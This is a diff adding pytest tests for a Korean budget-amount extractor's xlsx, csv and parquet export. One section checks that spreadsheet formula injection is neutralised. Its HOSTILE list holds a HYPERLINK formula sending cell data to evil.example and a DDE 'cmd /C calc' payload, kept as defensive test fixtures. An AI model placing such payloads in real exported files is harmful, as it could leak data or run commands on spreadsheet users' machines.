@@ -323,3 +323,222 @@ def test_libreoffice_reads_korean_xlsx(exported, tmp_path: Path) -> None:
     assert ko[1] == "3조9497억원"
     assert ko[2].replace(",", "") == "3949700000000"  # a real number, shown with separators
     assert ko[RECORD_COLUMNS.index("amount_display")] == "3조 9,497억 원"
+
+
+# -- formula safety ----------------------------------------------------------
+
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+def _hostile(tmp_path: Path, payloads: list[str]) -> tuple[Path, Path]:
+    corpus, out = tmp_path / "corpora", tmp_path / "outputs"
+    corpus.mkdir()
+    results = []
+    for i, payload in enumerate(payloads):
+        name = f"{payload[:12].replace('/', '_')}{i}.txt"
+        text = f"{payload} 예산 153억원"
+        (corpus / name).write_text(text, encoding="utf-8")
+        results.append(
+            DocResult(
+                name,
+                f"{i}" * 64,
+                1,
+                1,
+                EXTRACTED,
+                lang="ko",
+                text=text,
+                records=[rec(name, text, "153억원", 15300000000, project=payload)],
+            )
+        )
+    with Store(out / "extract.sqlite") as store:
+        store.save(results)
+        export_all(store, out, corpus)
+    return corpus, out
+
+
+@pytest.fixture
+def hostile(tmp_path: Path) -> tuple[Path, Path]:
+    """Sentences, projects and file names that start like formulas."""
+    return _hostile(tmp_path, HOSTILE)
+
+
+def test_workbook_text_cells_are_never_formulas(hostile) -> None:
+    import zipfile
+
+    _, out = hostile
+    with zipfile.ZipFile(out / "records.xlsx") as z:
+        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/sheet")]
+        assert sheets and not any(b"<f>" in z.read(n) for n in sheets)
+    wb = load_workbook(out / "records.xlsx")
+    ws = wb["records"]
+    col = {c.value: i for i, c in enumerate(ws[1])}
+    seen = set()
+    for row in ws.iter_rows(min_row=2):
+        for name in ("doc", "project", "sentence", "source"):
+            assert row[col[name]].data_type == "s"
+        # openpyxl does not unescape the _x000D_ that xlsx uses for a CR
+        seen.add(row[col["project"]].value.replace("_x000D_", "\r"))
+    assert seen == set(HOSTILE)  # kept as written, as text
+    for row in wb["documents"].iter_rows(min_row=2):
+        assert row[0].data_type == "s"
+
+
+def test_csv_cells_a_spreadsheet_would_evaluate_are_neutralised(hostile) -> None:
+    _, out = hostile
+    rows = read_csv(out / "records.csv")
+    for r in rows:
+        for name in ("project", "sentence", "doc", "source"):
+            value = r[name]
+            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (name, value)
+    assert {r["project"] for r in rows} == {"'" + p for p in HOSTILE}
+    assert all(r["amount"] == "15300000000" for r in rows)  # numbers untouched
+    assert {export_mod.csv_cell_back(r["project"]) for r in rows} == set(HOSTILE)
+    assert export_mod.csv_safe("-5") == "-5" and export_mod.csv_safe("-x") == "'-x"
+    docs = read_csv(out / "documents.csv")
+    assert all(d["doc"][0] not in "=+-@\t\r" for d in docs)
+
+
+def test_gold_reads_neutralised_csv_back_as_written(tmp_path: Path) -> None:
+    from extract.gold import sheet_to_labeled_set
+
+    visible = HOSTILE[:4]  # gold trims surrounding whitespace of every cell
+    corpus, out = _hostile(tmp_path, visible)
+    sheet_to_labeled_set(out / "records.csv", tmp_path / "set", corpus)
+    gold = read_csv(tmp_path / "set" / "gold.csv")
+    assert {g["project"] for g in gold} == set(visible)
+
+
+# -- widths, heights, charts, row limit, parquet ------------------------------
+
+
+def _big(tmp_path: Path) -> tuple[Path, Path]:
+    corpus, out = tmp_path / "corpora", tmp_path / "outputs"
+    corpus.mkdir()
+    long = "광주광역시 인공지능 중심 산업융합 집적단지 조성사업 예산이 크게 늘었다. " * 6
+    text = long + " 총 69조6366억원, 1경2345조원, 500억원"
+    (corpus / "big.txt").write_text(text, encoding="utf-8")
+    records = [
+        rec("big.txt", text, "69조6366억원", 69636600000000, project="국가 예산"),
+        rec("big.txt", text, "1경2345조원", 12345000000000000, project="국가 예산"),
+        rec("big.txt", text, "500억원", 50000000000, project="AI 사업"),
+    ]
+    for r in records:
+        r.sentence = long
+    with Store(out / "extract.sqlite") as store:
+        store.save(
+            [DocResult("big.txt", "e" * 64, 1, 1, EXTRACTED, lang="ko", text=text, records=records)]
+        )
+        export_all(store, out, corpus)
+    return corpus, out
+
+
+def test_numbers_fit_their_columns_and_sentences_get_row_heights(tmp_path: Path) -> None:
+    from openpyxl.utils import get_column_letter
+
+    _, out = _big(tmp_path)
+    wb = load_workbook(out / "records.xlsx")
+    for name in ("records", "projects"):
+        ws = wb[name]
+        for row in ws.iter_rows(min_row=2):
+            for cell in row:
+                if isinstance(cell.value, int | float) and not isinstance(cell.value, bool):
+                    shown = f"{cell.value:,}" if cell.number_format == "#,##0" else str(cell.value)
+                    width = ws.column_dimensions[get_column_letter(cell.column)].width
+                    assert width >= len(shown) + 1, (name, cell.coordinate, shown, width)
+    ws = wb["records"]
+    col = {c.value: i + 1 for i, c in enumerate(ws[1])}
+    assert ws.cell(2, col["sentence"]).alignment.wrap_text
+    assert ws.row_dimensions[2].height >= 3 * export_mod.LINE_POINTS  # wrapped: several lines
+    assert ws.cell(2, col["project_score"]).value is None  # not scored: empty, still sortable
+    assert ws.cell(2, col["status"]).value == "unreviewed"
+
+
+def test_projects_sheet_has_a_bar_chart_per_currency(tmp_path: Path) -> None:
+    import zipfile
+
+    _, out = _big(tmp_path)
+    with zipfile.ZipFile(out / "records.xlsx") as z:
+        charts = [n for n in z.namelist() if n.startswith("xl/charts/chart")]
+        assert len(charts) == 1
+        xml = z.read(charts[0]).decode()
+    assert "<c:barChart>" in xml and "projects!$C$2:$C$3" in xml and "projects!$A$2:$A$3" in xml
+    wb = load_workbook(out / "records.xlsx")
+    assert wb.sheetnames == ["records", "documents", "projects"]
+    header = [c.value for c in wb["projects"][1]]
+    assert header[:4] == ["project", "currency", "distinct_total", "distinct_total_display"]
+
+
+def test_row_limit_is_said_plainly(tmp_path: Path, monkeypatch) -> None:
+    monkeypatch.setattr(export_mod, "XLSX_MAX_RECORDS", 2)
+    corpus, out = tmp_path / "corpora", tmp_path / "outputs"
+    corpus.mkdir()
+    results = sample(corpus)
+    notes: list[str] = []
+    with Store(out / "extract.sqlite") as store:
+        store.save(results)
+        export_all(store, out, corpus, notes)
+    wb = load_workbook(out / "records.xlsx")
+    assert wb.sheetnames[0] == "note"
+    note = wb["note"]["A1"].value
+    assert "first 2 rows of 6" in note and "records.csv and records.parquet" in note
+    assert wb["records"].max_row == 3  # header + 2
+    assert len(read_csv(out / "records.csv")) == 6
+    assert any("first 2 rows of 6" in n for n in notes)
+
+
+def test_parquet_has_exact_amounts(exported) -> None:
+    import pyarrow as pa
+    import pyarrow.parquet as pq
+
+    _, out, _ = exported
+    table = pq.read_table(out / "records.parquet")
+    assert table.column_names == RECORD_COLUMNS
+    assert table.schema.field("amount").type == pa.decimal128(38, 4)
+    assert table.schema.field("start").type == pa.int64()
+    amounts = table.column("amount").to_pylist()
+    assert Decimal("3949700000000") in amounts and all(isinstance(a, Decimal) for a in amounts)
+    assert export_mod.parquet_decimal(Decimal(10) ** 40) is None  # never rounded: left empty
+    assert export_mod.parquet_decimal(Decimal("0.00001")) is None
+    assert export_mod.parquet_decimal(Decimal("2.5")) == Decimal("2.5000")
+
+
+def test_libreoffice_keeps_widths_and_row_heights(tmp_path: Path) -> None:
+    if _soffice() is None:
+        pytest.skip("LibreOffice (soffice) is not on PATH: install libreoffice-calc-nogui")
+    _, out = _big(tmp_path)
+    conv = tmp_path / "lo"
+    profile = (tmp_path / "lo-profile").resolve().as_uri()
+    result = subprocess.run(
+        [
+            _soffice(),
+            f"-env:UserInstallation={profile}",
+            "--headless",
+            "--convert-to",
+            "xlsx:Calc MS Excel 2007 XML",
+            "--outdir",
+            str(conv),
+            str(out / "records.xlsx"),
+        ],
+        capture_output=True,
+        text=True,
+        timeout=180,
+    )
+    assert result.returncode == 0, result.stderr
+    ws = load_workbook(conv / "records.xlsx")["records"]
+    col = {c.value: i + 1 for i, c in enumerate(ws[1])}
+    assert ws.cell(2, col["amount"]).value == 69636600000000
+    assert ws.cell(3, col["amount"]).value == 12345000000000000 or ws.cell(
+        3, col["amount"]
+    ).value == "12345000000000000"
+    assert ws.row_dimensions[2].height >= 3 * export_mod.LINE_POINTS
+    from openpyxl.utils import get_column_letter
+
+    width = ws.column_dimensions[get_column_letter(col["amount"])].width
+    assert width >= len("69,636,600,000,000")
